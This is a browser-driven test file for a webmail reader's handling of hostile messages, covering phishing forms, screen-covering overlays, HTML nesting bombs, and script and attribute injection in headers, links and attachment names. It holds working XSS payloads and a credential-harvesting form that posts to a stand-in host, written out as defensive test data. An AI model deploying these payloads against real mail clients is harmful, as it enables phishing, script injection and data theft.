"""Letters made to trick the reader by what they look like, by their size, by their header."""

from __future__ import annotations

import re
import time

import pytest
from playwright.sync_api import expect

from . import attacks
from .attacks import HARMLESS, Attack
from .cage import open_one, put
from .canary import Canary
from .under_attack import Record, quiet
from .visitor import Visitor

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

FULL = (
    b'<form action="https://leaking.example/" method="post"><p>Sign in</p>'
    b'<input name="a"><input type="password"><button>Go</button></form>'
)
COVER = (
    b'<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">Unlock</div>'
    b'<div style="position:absolute;top:-500px;margin-top:-900px;background:red;width:4000px;height:400px">Above</div>'
    b'<p style="transform:scale(90);color:#ff0000">Wide</p>'
)


def test_a_form_does_nothing(victim: Visitor, listener: Canary) -> None:
    before = len(listener.hits)
    page = open_one(victim, attacks.mail(victim.address, Attack("form", FULL)))
    letter = page.frame_locator("[data-slot=letter] iframe")
    expect(letter.get_by_text("Sign in")).to_be_visible()
    assert letter.locator("form, input, button").count() == 0
    assert quiet(listener)[before:] == []


def test_nothing_is_drawn_over_the_page(victim: Visitor) -> None:
    page = open_one(victim, attacks.mail(victim.address, Attack("cover", COVER)))
    frame = page.locator("[data-slot=letter] iframe")
    expect(page.frame_locator("[data-slot=letter] iframe").get_by_text("Unlock")).to_be_visible()
    box = frame.bounding_box()
    assert box
    for selector in ("protection-line", "[data-slot=subject]", ".bar", "#list", "[data-answer=reply] >> nth=0"):
        place = page.locator(selector).bounding_box()
        assert place
        at = [place["x"] + place["width"] / 2, place["y"] + place["height"] / 2]
        hit = page.evaluate("([x, y]) => document.elementFromPoint(x, y).localName", at)
        assert hit != "iframe", selector
    scroller = page.locator(".reader-page").bounding_box()
    assert scroller and box["x"] >= scroller["x"] and box["x"] + box["width"] <= scroller["x"] + scroller["width"] + 1


BOMBS = {
    "nested": b"<div>" * 100_000 + b"the end" + b"</div>" * 100_000,
    "nested fonts": b"<font color=red><b>" * 50_000 + b"the end",
    "10 MB": b"<p>a line of a very long letter</p>\n" * 300_000,
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_no_frame_and_takes_no_time(victim: Visitor, name: str) -> None:
    """With words beside it those are shown; alone it is text, or a file where it is too long to come along."""
    usual = opened_in(victim, attacks.mail(victim.address, HARMLESS), "[data-slot=letter] iframe")
    # Two seconds where nothing else runs, when a letter takes a third of one.
    limit = 2 * max(1, usual / 0.3)
    together = attacks.mail(victim.address, Attack(name, BOMBS[name]))
    took = opened_in(victim, together, "[data-slot=letter] >> text=The plain words.")
    assert victim.page.locator("[data-slot=letter] iframe").count() == 0
    assert took < limit, f"{took:.1f} s"
    alone = attacks.head(victim.address, "Alone") + attacks.single("text/html", BOMBS[name])
    took = opened_in(victim, alone, "[data-notice=note-text-only]")
    assert victim.page.locator("[data-slot=letter]").inner_text().strip()
    assert victim.page.locator("[data-slot=letter] iframe").count() == 0
    assert took < limit, f"{took:.1f} s"


def opened_in(victim: Visitor, message: bytes, sign: str) -> float:
    """Seconds from the click on the newest message until `sign` is there."""
    put(victim, [message])
    victim.open_mailbox()
    row = victim.page.locator(".row-link").first
    began = time.monotonic()
    row.click()
    expect(victim.page.locator(sign).filter(visible=True).first).to_be_visible(timeout=30_000)
    return time.monotonic() - began


HOSTILE = '"><img src=https://leaking.example/h onerror=top.ran=1><script>top.ran=1</script>{{7*7}}'

LINKS = [
    "a@a.co?]<img/src=x onerror=top.ran=1>",
    'https://leaking.example/"onmouseover=top.ran=1//',
    "javascript:top.ran=1",
]


def test_markup_in_header_fields_stays_words(victim: Visitor, listener: Canary) -> None:
    """Subject, names, file names: in the list, in the reader and in an answer."""
    before = len(listener.hits)
    fields = (
        f"From: {quoted(HOSTILE)} <mallory@example.test>\r\nTo: {quoted(HOSTILE)} <{victim.address}>\r\n"
        f'Cc: {quoted(HOSTILE)} <dana@example.test>\r\nSubject: {HOSTILE}\r\nMessage-ID: <a"onerror=x@example.test>\r\n'
        "Date: Sun, 22 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="either"\r\n\r\n'
    )
    words = "\n".join(
        [
            HOSTILE,
            "a@a.co?]<img/src=x onerror=top.ran=1>",
            'https://leaking.example/"onmouseover=top.ran=1//',
            "javascript:top.ran=1",
        ]
    )
    file = (
        "--either\r\nContent-Type: image/svg+xml\r\n"
        f"Content-Disposition: attachment; filename={quoted(HOSTILE)}\r\n\r\n<svg onload=top.ran=1/>\r\n"
    )
    record = Record(victim.site)
    record.watch(victim.context, victim.page)
    page = open_one(
        victim, fields.encode() + attacks.leaf("text/plain", words.encode()) + file.encode() + b"--either--\r\n"
    )
    expect(page.locator("[data-slot=subject]")).to_have_text(HOSTILE)
    expect(page.locator(".row-subject-text").first).to_have_text(HOSTILE)
    expect(page.locator("[data-slot=from]")).to_contain_text("<script>top.ran=1</script>")
    expect(page.locator("[data-slot=letter]")).to_contain_text(HOSTILE)
    expect(page.locator("[data-slot=files] .file")).to_be_visible()
    assert page.locator("mail-message img, mail-message script:not([type='application/json']), #list img").count() == 0
    links = page.locator("[data-slot=letter] a").evaluate_all(
        "all => all.map(({ href, target, rel }) => [href, target, rel])"
    )
    assert links and all(href.startswith("https://leaking.example/") for href, _, _ in links)
    assert {(target, rel) for _, target, rel in links} == {("_blank", "noopener noreferrer nofollow")}
    page.locator("[data-answer=all]").first.click()
    expect(page.locator("textarea[data-text]")).to_have_value(re.compile(re.escape("> " + HOSTILE)))
    assert page.locator("message-composer img, message-composer script").count() == 0
    assert page.evaluate("window.ran ?? null") is None
    assert quiet(listener)[before:] == record.dialogs == record.errors == record.popups == []


def quoted(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return f'"{escaped}"'


def test_an_answer_quotes_text_only(victim: Visitor, listener: Canary) -> None:
    before = len(listener.hits)
    html = b'<p>Read this</p><img src="https://leaking.example/q" alt="a door"><script>top.ran=1</script>'
    page = open_one(victim, attacks.mail(victim.address, Attack("quoted", html)))
    page.locator("[data-slot=letter] iframe").wait_for()
    page.locator("[data-answer=reply]").first.click()
    expect(page.locator("textarea[data-text]")).to_have_value(re.compile("> Read this"))
    assert "<" not in page.locator("textarea[data-text]").input_value().replace("<mallory@", "")
    assert quiet(listener)[before:] == []
